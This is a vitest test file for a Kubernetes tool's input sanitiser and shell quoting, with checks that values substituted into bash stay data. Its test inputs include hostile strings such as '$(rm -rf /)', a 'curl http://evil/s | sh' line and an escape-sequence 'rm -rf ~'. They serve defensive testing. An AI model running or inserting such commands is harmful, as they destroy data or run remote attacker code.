import { execFileSync } from 'node:child_process';
import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import { isUnusual, prepareValue, quoteInto, type QuoteContext } from '../../src/domain/values.ts';

describe('preparing a value from a URL, the panel or a flag', () => {
  it.each([
    ['namespace', 'prod'],
    ['pod', 'api-7c9f8-x2x.web'],
    ['node', 'ip-10-0-1-2.eu-west-1.compute.internal'],
    ['resource', 'deployment/api'],
    ['port', '8080'],
  ])('%s=%s is a plain value', (key, raw) => {
    const prepared = prepareValue(key, raw);
    expect(prepared.value).toBe(raw);
    expect(prepared.problems).toEqual([]);
  });

  it.each([
    ['namespace', '$(rm -rf /)', 'shell would read as code'],
    ['pod', 'x; curl http://evil/s | sh #', 'shell would read as code'],
    ['namespace', 'Prod', 'not a valid Kubernetes namespace name'],
    ['service', 'a_b', 'not a valid Kubernetes service name'],
    ['pod', 'x\u001b[201~rm -rf ~', 'ESC (U+001B)'],
    ['pod', 'x\u0007y', 'BEL (U+0007)'],
    ['pod', 'x\ty', 'TAB (U+0009)'],
    ['namespace', 'pro\u200bd', 'zero-width space'],
    ['namespace', 'prod\u202e', 'right-to-left override'],
  ])('%s=%j is unusual: %s', (key, raw, why) => {
    const prepared = prepareValue(key, raw);
    expect(isUnusual(prepared)).toBe(true);
    expect(prepared.problems.join('; ')).toContain(why);
    expect(prepared.value).not.toMatch(/[\p{Cc}\p{Cf}]/u);
  });

  it('turns curly quotes into the ASCII ones, which then count as shell characters', () => {
    const prepared = prepareValue('pod', '“x”');
    expect(prepared.value).toBe('"x"');
    expect(isUnusual(prepared)).toBe(true);
  });

  it('removes invisible characters, so what is left may be a plain name', () => {
    expect(prepareValue('namespace', 'pro\u200bd').value).toBe('prod');
  });
});

// The proof that a value stays data: substitute it into real bash in every place a placeholder can be
// written, and check that the command receives exactly the value, whatever it holds.
const TEMPLATES: Record<QuoteContext, (v: string) => string> = {
  unquoted: (v) => `printf '%s' pre${v}post`,
  single: (v) => `printf '%s' 'pre${v}post'`,
  double: (v) => `printf '%s' "pre${v}post"`,
  heredoc: (v) => `cat <<EOF\npre${v}post\nEOF`,
  'heredoc-quoted': (v) => `cat <<'EOF'\npre${v}post\nEOF`,
};

/** Runs every script in one bash process (a process per case is slow) and returns what each printed. */
function runInBash(scripts: readonly string[]): string[] {
  // RS (U+001E) separates the outputs: prepareValue removes control characters, so no value holds one.
  const program = scripts.map((script) => `${script}\nprintf '\\036'`).join('\n');
  const output = execFileSync('bash', ['-c', program], {
    encoding: 'utf8',
    env: { PATH: process.env['PATH'] ?? '/usr/bin:/bin' },
  });
  return output
    .split('\u001e')
    .slice(0, -1)
    .map((o) => o.replace(/\n$/, ''));
}

const CONTEXTS = Object.keys(TEMPLATES) as QuoteContext[];

describe('quoting a value into a command', () => {
  const hostile = [
    '$(echo pwned)',
    '`echo pwned`',
    "it's",
    'a"b',
    'a\\b',
    '$HOME',
    'x; echo pwned',
    'a b  c',
    '!!',
    '*',
    '~root',
    '{a,b}',
    '\'"\'"',
    'a\\',
    '#x',
    'EOF',
  ];

  it.each(CONTEXTS)('%s: every hostile value reaches the command as data', (context) => {
    const values = hostile
      .map((raw) => prepareValue('pod', raw).value)
      .filter((v) => !(context.startsWith('heredoc') && v === 'EOF'));
    expect(runInBash(values.map((v) => TEMPLATES[context](quoteInto(v, context))))).toEqual(
      values.map((v) => `pre${v}post`),
    );
  });

  it('holds for any value, in every context (property)', () => {
    const unit = fc.constantFrom(...' azAZ09$`"\'\\;|&<>(){}[]*?~#!%=:@,./-_\n\t\u001b'.split(''));
    const cases = fc.sample(fc.tuple(fc.string({ unit, maxLength: 12 }), fc.constantFrom(...CONTEXTS)), {
      numRuns: 300,
      seed: 42,
    });
    const prepared = cases.map(([raw, context]) => ({ value: prepareValue('pod', raw).value, context }));
    const outputs = runInBash(prepared.map(({ value, context }) => TEMPLATES[context](quoteInto(value, context))));
    expect(outputs).toEqual(prepared.map(({ value }) => `pre${value}post`));
  });
});
